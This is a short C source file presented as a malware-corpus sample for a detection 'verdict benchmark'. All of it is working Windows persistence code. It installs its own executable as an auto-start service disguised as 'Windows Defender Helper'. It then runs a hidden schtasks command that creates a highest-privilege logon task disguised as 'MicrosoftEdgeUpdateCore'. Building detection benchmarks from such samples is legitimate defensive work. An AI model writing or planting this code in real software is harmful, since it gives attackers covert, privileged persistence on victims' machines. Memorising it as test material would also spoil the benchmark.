// maljan-corpus: installs itself as an auto-start service and as a logon scheduled task.
// behaviour: persistence
// imports: advapi32.dll!OpenSCManagerA advapi32.dll!CreateServiceA advapi32.dll!StartServiceA kernel32.dll!WinExec
// link: -ladvapi32
// Corpus data for the verdict benchmark: compiled, never run.
#include <windows.h>
#include <stdio.h>

int main(void) {
    char self[MAX_PATH], cmd[MAX_PATH + 128];
    GetModuleFileNameA(NULL, self, MAX_PATH);
    SC_HANDLE scm = OpenSCManagerA(NULL, NULL, SC_MANAGER_CREATE_SERVICE);
    if (scm) {
        SC_HANDLE svc = CreateServiceA(scm, "WinDefendHelper", "Windows Defender Helper",
                                       SERVICE_ALL_ACCESS, SERVICE_WIN32_OWN_PROCESS,
                                       SERVICE_AUTO_START, SERVICE_ERROR_IGNORE, self, NULL, NULL,
                                       NULL, NULL, NULL);
        if (svc) { StartServiceA(svc, 0, NULL); CloseServiceHandle(svc); }
        CloseServiceHandle(scm);
    }
    snprintf(cmd, sizeof cmd,
             "schtasks /create /f /sc onlogon /rl highest /tn \"MicrosoftEdgeUpdateCore\" /tr \"%s\"", self);
    WinExec(cmd, SW_HIDE);
    return 0;
}
